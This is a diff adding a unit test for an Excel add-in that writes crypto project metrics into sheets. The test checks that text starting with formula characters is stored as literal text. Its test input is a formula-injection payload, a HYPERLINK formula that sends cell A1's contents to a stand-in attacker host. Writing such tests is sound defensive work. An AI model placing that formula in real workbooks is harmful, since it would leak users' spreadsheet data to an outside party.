@@ -136,6 +136,62 @@ describe("what the taskpane's Office side writes", () => {
     expect(all).not.toContain(SECRET);
   });
 
+  it.each(["=", "+", "-", "@", "\t", "\r"])(
+    "writes service text starting with %j into the grid and statement sheets as text, numbers as numbers",
+    async (lead) => {
+      const attack = `${lead}HYPERLINK("http://evil.example/?"&A1,"x")`;
+      const row = {
+        date: "2024-03-31",
+        heading: attack,
+        subheading: attack,
+        granularity: "quarter",
+        projectName: attack,
+        section: attack,
+        metricId: attack,
+        value: -5,
+        popChange: -0.25,
+        definition: attack,
+      };
+      const input = {
+        projectId: "aave",
+        projectName: attack,
+        granularity: "quarter",
+        interval: "1y",
+        rows: [row],
+        asOf: "2026-11-20 12:00 UTC",
+        simulated: false,
+      };
+      const x = excel();
+      const port = officeWorkbook({
+        run: runOn(x.context),
+        supports: () => true,
+        selectionEvents: { add: () => undefined, remove: () => undefined },
+      });
+      await port.insertGrid(
+        comparisonGrid({
+          projects: [{ id: "aave", name: attack }],
+          metrics: [{ id: "fees", name: attack }],
+        })
+      );
+      await port.createSheet(statementSheet({ ...input, mode: "static" }));
+      await port.createSheet(statementSheet({ ...input, mode: "live" }));
+      const cells = x
+        .ranges()
+        .flatMap((r) => ["formulas", "formulasR1C1"].map((p) => (r as Record<string, unknown>)[p]))
+        .flatMap((grid): unknown[] => (Array.isArray(grid) ? (grid as unknown[][]).flat() : []));
+      const carrying = cells.filter((c) => typeof c === "string" && c.includes("evil.example"));
+      // The grid's name and header, the statement's title, section, line and period headings.
+      expect(carrying.length).toBeGreaterThanOrEqual(5);
+      for (const text of carrying) expect(text).toMatch(/^'|^[^=+\-@\t\r]/);
+      expect(carrying).toContain(`'${attack}`);
+      // The figures the statement fetched: numbers in the cells, the negative ones included.
+      expect(cells).toContain(-5);
+      expect(cells).toContain(-0.25);
+      // What the formulas the add-in writes itself look like: they still start with "=".
+      expect(cells.some((c) => typeof c === "string" && c.startsWith("=CRYPTO."))).toBe(true);
+    }
+  );
+
   it("comes from code that never reaches for a workbook's own storage", () => {
     const sources = (dir: string): string[] =>
       readdirSync(dir).flatMap((name) => {
